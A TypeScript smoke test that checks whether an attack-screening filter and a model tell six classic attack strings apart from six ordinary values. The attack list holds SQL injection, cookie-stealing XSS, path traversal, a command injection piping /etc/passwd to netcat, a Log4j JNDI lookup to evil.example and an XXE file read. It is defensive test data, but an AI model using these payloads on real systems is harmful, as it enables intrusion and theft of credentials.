import { loadBundle } from "../../inference-sidecar/src/bundle.ts";
import { loadCore } from "../core.ts";
import { tryModel } from "./model-trial.ts";

/** A few of each kind that no gate may get wrong: this tells a model that works from one that doesn't, and measures nothing. */
const attacks = [
  "1' UNION SELECT username, password FROM users --",
  "<script>alert(document.cookie)</script>",
  "../../../../etc/passwd",
  "; cat /etc/passwd | nc 10.0.0.1 4444",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup of Log4j, not a template
  "${jndi:ldap://evil.example/a}",
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
];
const ordinary = [
  "blue shoes, size 42",
  "kim@example.org",
  "2026-11-26",
  "I'd like the blue one, please.",
  "f47ac10b-58cc-4372-a567-0e02b2c3d479",
  "en-GB,en;q=0.9",
];
/** So many of six may come out wrong: thresholds are a matter of taste, an inert model is not. */
const wrongMost = 1;
const bothEnds = 3;

/**
 * Judges a few values by the screen alone and by the model alone, as filter and sidecar would.
 * @throws Error the bundle can't be used, or one of the two doesn't tell attacks from ordinary values
 */
export async function smokeTest(bundleDirectory: string): Promise<void> {
  const bundle = await loadBundle(bundleDirectory);
  const core = await loadCore(bundleDirectory);
  const { clearBelow, denyAlone, modelDeny } = bundle.thresholds;
  const values = [...attacks, ...ordinary];
  const screened = values.map((value) => core.screen([Buffer.from(value)])[0]?.millionths ?? 0);
  tellsApart("screen", screened, clearBelow, denyAlone);
  // Together, as the sidecar asks: what is said of one must not depend on the others.
  const scores = await tryModel(
    bundle,
    values.map((value) => ({ bytes: Buffer.from(value), edges: bothEnds })),
  );
  const judged = scores.map(({ attackMillionths }) => attackMillionths);
  tellsApart("model", judged, modelDeny, modelDeny);
}

/** Attacks score from `attackFrom` on, ordinary values below `ordinaryBelow`. @param scores of `attacks`, then of `ordinary` */
function tellsApart(part: string, scores: readonly number[], attackFrom: number, ordinaryBelow: number): void {
  const missed = attacks.filter((_, index) => (scores[index] ?? 0) < attackFrom);
  const blamed = ordinary.filter((_, index) => (scores[attacks.length + index] ?? 0) >= ordinaryBelow);
  if (missed.length > wrongMost) throw new Error(`its ${part} takes attacks for ordinary values: ${missed.join("  ")}`);
  if (blamed.length > wrongMost) throw new Error(`its ${part} takes ordinary values for attacks: ${blamed.join("  ")}`);
}
